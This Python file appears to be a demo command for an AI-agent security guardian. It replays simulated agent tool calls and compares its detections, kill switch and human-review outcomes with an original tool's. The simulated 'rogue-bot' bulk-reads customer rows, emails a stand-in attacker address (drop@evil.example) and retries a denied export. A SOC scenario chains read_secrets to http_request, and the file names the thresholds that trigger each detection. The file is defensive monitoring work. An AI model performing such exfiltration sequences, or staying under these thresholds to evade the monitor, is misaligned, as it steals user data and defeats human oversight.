# ruff: noqa: S608  (the demo's queries are tool arguments, never run)
"""``agent-security demo guardian``: the original's guardian demo scenarios, with our outcomes.

The guardian part of Agent-SPM's ``examples/04-guardian-posture`` and ``examples/05-full-spm`` (a
finance guardian fed from the audit stream), the verified example of its incident storm, and what the
original could not do: a kill that holds, sequences with other calls between the steps, a learned
baseline, correct mode. Every scenario runs on a fixed clock, so the run is the same at any hour (the
original's outcome depended on the time of day). :func:`guardian_rows` returns the rows (a scenario,
what we did, what the original did, whether ours is as expected) for any report that wants them;
:func:`run_demo` prints them and returns 1 when an outcome is not the expected one.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import click

from agent_security.guardian.agent import GuardianAgent
from agent_security.guardian.blueprints import BLUEPRINT_FINANCE, BLUEPRINT_SOC
from agent_security.guardian.config import GuardianConfig

__all__ = ["DemoRow", "demo_command", "guardian_rows", "run_demo"]

POLICY = """{
  "version": "1.0.0", "generated_at": "2026-01-01T00:00:00.000Z", "expires_at": "2099-01-01T00:00:00.000Z",
  "rules": [
    {"id": "DENY_EXPORT", "match": {"tool_name": "export_all", "environment": "*"}, "outcome": "DENY"},
    {"id": "ALLOW_ALL", "match": {"tool_name": "*", "environment": "*"}, "outcome": "ALLOW"}
  ],
  "defaults": {"outcome": "DENY"}
}"""
BUSINESS = datetime(2026, 6, 1, 10, 0, tzinfo=UTC)
NIGHT = datetime(2026, 6, 1, 5, 0, tzinfo=UTC)
READ = {"tool_name": "query_customer_db", "environment": "prod"}


@dataclass(frozen=True)
class DemoRow:
    """One line of the demo: what happened with us, what the original did, and whether ours is as expected."""

    scenario: str
    ours: str
    original: str
    ok: bool


class _World:
    """An ``AgentSecurity`` with a kill switch and one guardian, on a clock the demo moves."""

    def __init__(self, config: GuardianConfig, start: datetime, **options: Any) -> None:
        from agent_security.core import AgentSecurity
        from agent_security.core.builtin import kill_switch
        from agent_security.core.testing import FakeClock

        self.clock = FakeClock(start)
        self.guardian = GuardianAgent(config)
        self.security = AgentSecurity(
            policy_json=POLICY,
            autoload=False,
            plugins=[kill_switch(), self.guardian],
            clock=self.clock,
            **options,
        )

    def call(self, agent: str, step_s: float = 1.0, **call: Any) -> Any:
        self.clock.advance(step_s)
        return self.security.check_tool_call(agent_id=agent, **({**READ, **call}))

    def incidents(self, agent: str | None = None) -> list[str]:
        return [i.type.value for i in self.guardian.incidents(agent)]


@contextmanager
def _world(config: GuardianConfig, start: datetime, **options: Any) -> Iterator[_World]:
    world = _World(config, start, **options)
    try:
        yield world
    finally:
        world.security.shutdown()


def _verdicts(results: list[Any]) -> str:
    allowed = sum(1 for r in results if r.allowed)
    return f"{allowed}/{len(results)} ALLOW" if allowed else f"{len(results)} DENY"


def _finance_04() -> list[DemoRow]:
    rows = []
    with _world(BLUEPRINT_FINANCE, BUSINESS) as w:
        r = w.call("finance-bot", tool_args={"query": "SELECT name FROM customers LIMIT 10"})
        ok = r.allowed and w.incidents() == []
        rows.append(DemoRow("04 finance-bot reads customers at 10:00 (allowed 08-18)",
                            f"{_verdicts([r])}, no incident", "ALLOW, no incident", ok))  # fmt: skip
    with _world(BLUEPRINT_FINANCE, NIGHT) as w:
        first = w.call("finance-bot", tool_args={"query": "SELECT name FROM customers LIMIT 10"})
        rogue = [
            w.call("rogue-bot", tool_args={"query": f"SELECT * FROM customers OFFSET {i * 1000} LIMIT 1000"})
            for i in range(5)
        ]
        ok = (first.allowed and all(r.allowed for r in rogue) and w.incidents("finance-bot") == ["off_hours"]
              and w.incidents("rogue-bot") == ["off_hours"] and not w.guardian.is_killed("rogue-bot"))  # fmt: skip
        rows.append(DemoRow(
            "04 the same at 05:00 UTC, then rogue-bot reads 5 x 1000 rows",
            f"{_verdicts([first, *rogue])}; one off_hours incident per agent (repeats are its evidence), "
            "rogue-bot not killed (1 incident of 3)",
            "6 ALLOW; 1 + 3 off_hours incidents labelled 'blocked', rogue-bot 'killed' on its 3rd call yet its "
            "4th and 5th calls allowed; the outcome depends on the server's local time",
            ok,
        ))  # fmt: skip
    return rows


def _rogue_05() -> list[DemoRow]:
    rows = []
    with _world(BLUEPRINT_FINANCE, BUSINESS) as w:
        burst = [w.call("rogue-bot", 0.5, tool_args={"query": f"SELECT * FROM c OFFSET {i}"}) for i in range(40)]
        ok = all(r.allowed for r in burst) and w.incidents("rogue-bot") == ["frequency_spike"]
        rows.append(DemoRow("05 rogue-bot: 40 bulk reads in 20 s (finance: 30 per tool per minute)",
                            f"{_verdicts(burst)}; 1 frequency_spike incident (calls 32-40 are repeats of it)",
                            "all ALLOW; 10 frequency_spike incidents, 'killed' at the 33rd call, never enforced",
                            ok))  # fmt: skip
        mail = w.call("rogue-bot", 30, tool_name="send_email", tool_args={"to": "drop@evil.example"})
        ok = mail.allowed and w.incidents("rogue-bot")[-1] == "suspicious_sequence"
        rows.append(DemoRow("05 rogue-bot then sends an email (query_customer_db > send_email)",
                            f"{_verdicts([mail])}; suspicious_sequence incident (2 of 3)",
                            "ALLOW; suspicious_sequence only when the two calls are adjacent", ok))  # fmt: skip
        denied = [w.call("rogue-bot", 1, tool_name="export_all") for _ in range(11)]
        kinds = w.incidents("rogue-bot")
        ok = not any(r.allowed for r in denied) and kinds[-2:] == ["denial_burst", "auto_kill"]
        rows.append(DemoRow("05 rogue-bot is denied export_all 11 times in 11 s",
                            f"{_verdicts(denied)}; denial_burst incident (3 of 3), then auto_kill: killed through "
                            "the kill switch", "no denial detector", ok))  # fmt: skip
        after = w.call("rogue-bot", 1, tool_args={"query": "SELECT 1"})
        codes = after.final_decision.codes
        ok = not after.allowed and "AGENT_KILL_SWITCH" in codes and w.guardian.is_killed("rogue-bot")
        rows.append(DemoRow("05 killed rogue-bot's next call", f"DENY {', '.join(codes)}",
                            "ALLOW (the guardian only labels; isKilled is never consulted)", ok))  # fmt: skip
        other = w.call("finance-bot", 1)
        rows.append(DemoRow("05 finance-bot meanwhile", f"{_verdicts([other])}", "ALLOW", other.allowed))
    return rows


def _storm() -> list[DemoRow]:
    cfg = GuardianConfig(frequency_threshold=2, volume_threshold=3, suspicious_sequences=(("a", "*", "c"),),
                         auto_kill_threshold=6, mode="block")  # fmt: skip
    with _world(cfg, BUSINESS) as w:
        results = [w.call("agent-x", 1, tool_name=t) for t in ("a", "b", "c", "c", "c")]
        kinds = w.incidents()
        ok = all(r.allowed for r in results) and kinds == ["suspicious_sequence", "volume_spike", "frequency_spike"]
        return [DemoRow("§7 verified example: frequency 2, volume 3, sequence [a, *, c], kill at 6; calls a b c c c",
                        f"{_verdicts(results)}; 3 incidents, one per anomaly ({', '.join(kinds)}); no kill",
                        "9 incidents (frequency and volume count the same thing, every call re-reports) and an "
                        "auto_kill", ok)]  # fmt: skip


def _soc() -> list[DemoRow]:
    with _world(BLUEPRINT_SOC, BUSINESS) as w:
        tools = ("read_secrets", "list_files", "list_files", "http_request")
        results = [w.call("analyst-bot", 5, tool_name=t) for t in tools]
        kinds = w.incidents("analyst-bot")
        ok = (
            all(r.allowed for r in results)
            and kinds == ["suspicious_sequence"]
            and not w.guardian.is_killed("analyst-bot")
        )
        return [DemoRow("SOC (monitor): read_secrets, list_files, list_files, http_request",
                        f"{_verdicts(results)}; suspicious_sequence [read_secrets > * > http_request] logged",
                        "nothing: the steps had to be adjacent", ok)]  # fmt: skip


def _baseline() -> list[DemoRow]:
    cfg = GuardianConfig(mode="monitor", frequency_threshold=30)
    with _world(cfg, BUSINESS) as w:
        for _ in range(40):  # 40 minutes of 2 calls a minute: the learned rate
            w.call("report-bot", 20, tool_name="fetch_report")
            w.call("report-bot", 40, tool_name="fetch_report")
        quiet = w.incidents("report-bot")
        burst = [w.call("report-bot", 2, tool_name="fetch_report") for _ in range(15)]
        kinds = w.incidents("report-bot")
        spike = w.guardian.incidents("report-bot")[-1] if kinds else None
        ok = quiet == [] and kinds[:1] == ["frequency_spike"] and spike is not None and spike.details["baseline_spike"]
        return [DemoRow("learned baseline: 2 calls a minute for 40 minutes, then 15 in 30 s (fixed threshold 30)",
                        f"{_verdicts(burst)}; frequency_spike against the baseline "
                        f"(limit {spike.details['baseline_limit'] if spike else '-'} per minute)",
                        "nothing: fixed thresholds only", ok)]  # fmt: skip


def _correct() -> list[DemoRow]:
    cfg = BLUEPRINT_FINANCE.with_overrides(mode="correct", auto_kill_threshold=1)
    with _world(cfg, NIGHT, on_human_required=lambda *_a, **_k: False) as w:
        first = w.call("night-bot")
        second = w.call("night-bot")
        ok = (first.allowed and second.decision.outcome.value == "REQUIRE_HUMAN" and not second.allowed
              and "GUARDIAN_REVIEW" in second.decision.codes)  # fmt: skip
        return [DemoRow("correct mode, kill threshold 1: night-bot acts at 05:00, then calls again",
                        f"{_verdicts([first])}, off_hours incident, put under review; next call "
                        f"{second.decision.outcome.value} GUARDIAN_REVIEW, the human says no: DENY",
                        "action_taken 'corrected' (a label; nothing changes)", ok)]  # fmt: skip


SCENARIOS: tuple[Callable[[], list[DemoRow]], ...] = (_finance_04, _rogue_05, _storm, _soc, _baseline, _correct)


def guardian_rows() -> list[DemoRow]:
    """Run every guardian scenario; one row per step."""
    return [row for scenario in SCENARIOS for row in scenario()]


def run_demo(echo: Callable[[str], None] = print) -> int:
    """Print every scenario; 0 when all outcomes are the expected ones, else 1."""
    rows = guardian_rows()
    for i, row in enumerate(rows, 1):
        echo(f"{i:2}. {row.scenario}")
        echo(f"    ours:     {row.ours}   {'ok' if row.ok else 'UNEXPECTED'}")
        echo(f"    original: {row.original}")
    failures = sum(not r.ok for r in rows)
    echo("all outcomes as expected" if not failures else f"{failures} unexpected outcome(s)")
    return 1 if failures else 0


@click.command("guardian")
def demo_command() -> None:
    """Run the original's guardian demo scenarios (examples/04-guardian-posture and the guardian part of
    examples/05-full-spm) through agent-security-guardian, with our outcomes."""
    raise SystemExit(run_demo(click.echo))
